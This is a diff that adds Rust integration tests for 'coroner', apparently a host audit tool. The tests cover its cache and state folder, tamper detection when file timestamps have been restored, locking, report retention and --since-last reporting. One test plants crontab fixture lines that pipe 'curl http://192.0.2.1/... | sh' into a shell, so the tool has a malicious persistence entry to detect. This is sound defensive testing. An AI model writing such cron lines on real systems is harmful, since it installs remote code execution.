@@ -1,0 +1,204 @@
+//! Scheduled audits: what the state folder keeps, and what it must never hide.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)] // tests
+#![cfg_attr(not(feature = "real-roots"), allow(dead_code, unused_imports))]
+
+mod support;
+
+use std::fs::File;
+use std::path::Path;
+use std::process::{Command, Output};
+use std::time::Duration;
+
+use coroner_core::Report;
+use coroner_testkit::Tree;
+use support::{append, copy_of, coroner, lab, report, status};
+
+fn small() -> Tree {
+    Tree::new()
+        .file("/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n")
+        .file("/etc/hostname", "small\n")
+        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
+        .file("/etc/shadow", "root:*:19000:0:99999:7:::\n")
+        .mode("/etc/shadow", 0o640)
+        .file("/etc/group", "root:x:0:\n")
+        .file("/etc/crontab", "17 * * * * root /usr/local/bin/one\n")
+        .file("/usr/local/bin/one", "#!/bin/sh\necho one\n")
+        .mode("/usr/local/bin/one", 0o755)
+        .dir("/proc")
+        .dir("/sys")
+}
+
+/// An audit of `root` with its state in `state`.
+fn scheduled(root: &Path, state: &Path, more: &[&str]) -> Output {
+    let mut command = coroner();
+    command.args(["audit", "--format", "json", "--root"]).arg(root);
+    command.arg("--state").arg(state).args(more).output().unwrap()
+}
+
+fn said(output: &Output) -> String {
+    String::from_utf8_lossy(&output.stderr).into_owned()
+}
+
+/// Inodes that changed within two seconds are never kept.
+fn settle() {
+    std::thread::sleep(Duration::from_millis(3200));
+}
+
+fn kept_reports(state: &Path) -> usize {
+    let names = std::fs::read_dir(state).unwrap().map(|entry| entry.unwrap().file_name());
+    names.filter(|name| name.to_string_lossy().starts_with("report-")).count()
+}
+
+/// What must not depend on the cache.
+fn judged(report: &Report) -> impl PartialEq + std::fmt::Debug + use<> {
+    let (items, findings) = (report.items.clone(), report.findings.clone());
+    (items, findings, report.gaps.clone(), report.run.verified.clone())
+}
+
+#[test]
+fn a_second_audit_knows_unchanged_files_and_says_the_same_of_them() {
+    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
+    settle();
+    let [first, second, anew] = [&[][..], &[], &["--no-cache"]]
+        .map(|more| report(&scheduled(root.path(), state.path(), more)));
+    assert_eq!(first.run.known_files, Some(0));
+    assert!(second.run.known_files > Some(1), "{:?}", second.run.known_files);
+    assert_eq!(anew.run.known_files, None);
+    assert_eq!(judged(&first), judged(&second));
+    assert_eq!(judged(&first), judged(&anew));
+    assert_eq!(kept_reports(state.path()), 3);
+}
+
+#[test]
+fn a_script_whose_text_changed_with_size_and_mtime_restored_is_noticed() {
+    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
+    settle();
+    let text = |report: &Report| {
+        let script = report
+            .items
+            .iter()
+            .find(|item| item.kind == "script" && item.key == "/usr/local/bin/one");
+        let script = script.expect("the launched script");
+        script.fields["text"].as_str().unwrap().to_owned()
+    };
+    scheduled(root.path(), state.path(), &[]);
+    assert!(text(&report(&scheduled(root.path(), state.path(), &[]))).contains("one"));
+    let path = root.path().join("usr/local/bin/one");
+    let modified = std::fs::metadata(&path).unwrap().modified().unwrap();
+    std::fs::write(&path, "#!/bin/sh\necho two\n").unwrap();
+    File::options().write(true).open(&path).unwrap().set_modified(modified).unwrap();
+    let third = report(&scheduled(root.path(), state.path(), &[]));
+    assert!(text(&third).contains("two"));
+}
+
+#[test]
+fn a_damaged_folder_is_said_and_rebuilt() {
+    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
+    settle();
+    scheduled(root.path(), state.path(), &[]);
+    for entry in std::fs::read_dir(state.path()).unwrap() {
+        std::fs::write(entry.unwrap().path(), b"\x00rotten").unwrap();
+    }
+    let again = scheduled(root.path(), state.path(), &["--since-last"]);
+    let errors = said(&again);
+    assert!(errors.contains("made anew") && errors.contains("left out"), "{errors}");
+    assert_eq!(report(&again).run.known_files, Some(0));
+    let after = scheduled(root.path(), state.path(), &["--since-last"]);
+    assert_eq!(said(&after), "");
+    assert!(report(&after).run.known_files > Some(1));
+}
+
+#[test]
+fn two_audits_at_once_do_not_share_a_folder() {
+    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
+    let lock = File::create(state.path().join("lock")).unwrap();
+    lock.lock().unwrap();
+    let output = scheduled(root.path(), state.path(), &[]);
+    assert_eq!(status(&output), 70);
+    assert!(said(&output).contains("another audit"), "{}", said(&output));
+    assert!(output.stdout.is_empty());
+    drop(lock);
+    assert!(status(&scheduled(root.path(), state.path(), &[])) < 4);
+}
+
+#[test]
+fn the_folder_keeps_as_many_reports_as_it_is_told_to() {
+    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
+    for expected in [1, 2, 2] {
+        scheduled(root.path(), state.path(), &["--keep", "2", "--only", "cron"]);
+        assert_eq!(kept_reports(state.path()), expected);
+    }
+}
+
+#[test]
+fn since_last_speaks_of_new_findings_alone() {
+    let (root, state) = (small().write(), tempfile::tempdir().unwrap());
+    let run = || status(&scheduled(root.path(), state.path(), &["--since-last"]));
+    append(root.path(), "/etc/crontab", "1 * * * * root curl http://192.0.2.1/a | sh\n");
+    let first = run();
+    assert!((1..=2).contains(&first), "{first}: there is no earlier report");
+    assert_eq!(run(), 0, "nothing is new");
+    append(root.path(), "/etc/crontab", "2 * * * * root curl http://192.0.2.1/b | sh\n");
+    assert!((1..=2).contains(&run()), "one finding is new");
+    assert_eq!(run(), 0);
+}
+
+#[test]
+fn a_folder_that_cannot_be_is_refused_before_the_audit() {
+    let file = tempfile::NamedTempFile::new().unwrap();
+    let output = scheduled(Path::new("/"), file.path(), &[]);
+    assert_eq!(status(&output), 64, "{}", said(&output));
+    for args in [["audit", "--since-last"], ["audit", "--no-cache"]] {
+        let output = coroner().args(args).output().unwrap();
+        assert_eq!(status(&output), 64);
+        assert!(said(&output).contains("--state"));
+    }
+}
+
+/// Milliseconds of processor time, the kernel's included.
+fn processor_time(root: &Path, state: &Path) -> u64 {
+    let script = r#"TIMEFORMAT='%3U %3S'; time "$@" > /dev/null"#;
+    let output = Command::new("bash")
+        .args(["-c", script, "bash", env!("CARGO_BIN_EXE_coroner"), "audit", "--root"])
+        .arg(root)
+        .arg("--state")
+        .arg(state)
+        .output()
+        .unwrap();
+    let errors = said(&output);
+    let words = errors.split_whitespace();
+    words.map(|word| word.replace('.', "").parse::<u64>().expect(&errors)).sum()
+}
+
+#[test]
+#[cfg_attr(not(feature = "real-roots"), ignore = "needs whole roots: run tests/run")]
+fn an_unchanged_root_costs_a_fraction_the_second_time() {
+    let state = tempfile::tempdir().unwrap();
+    let root = lab().join("bookworm");
+    let first = processor_time(&root, state.path());
+    let second = (0..3).map(|_| processor_time(&root, state.path())).min().unwrap();
+    eprintln!("first {first} ms, second {second} ms");
+    assert!(second * 3 < first, "first {first} ms, second {second} ms");
+}
+
+#[test]
+#[cfg_attr(not(feature = "real-roots"), ignore = "needs whole roots: run tests/run")]
+fn a_packaged_program_that_changed_behind_restored_times_is_found_beside_a_warm_cache() {
+    let (root, state) = (copy_of(&lab().join("bookworm")), tempfile::tempdir().unwrap());
+    settle();
+    scheduled(root.path(), state.path(), &[]);
+    let path = root.path().join("usr/share/perl5/Debconf/Log.pm");
+    let (mut content, before) = (std::fs::read(&path).unwrap(), std::fs::metadata(&path).unwrap());
+    *content.last_mut().unwrap() ^= 1;
+    std::fs::write(&path, content).unwrap();
+    let file = File::options().write(true).open(&path).unwrap();
+    file.set_modified(before.modified().unwrap()).unwrap();
+    assert_eq!(std::fs::metadata(&path).unwrap().modified().unwrap(), before.modified().unwrap());
+    let report = report(&scheduled(root.path(), state.path(), &[]));
+    assert!(report.run.known_files > Some(10_000));
+    let named = report
+        .items
+        .iter()
+        .find(|item| item.kind == "file" && item.key == "/usr/share/perl5/Debconf/Log.pm");
+    assert_eq!(named.expect("named").fields["state"], "modified");
+}
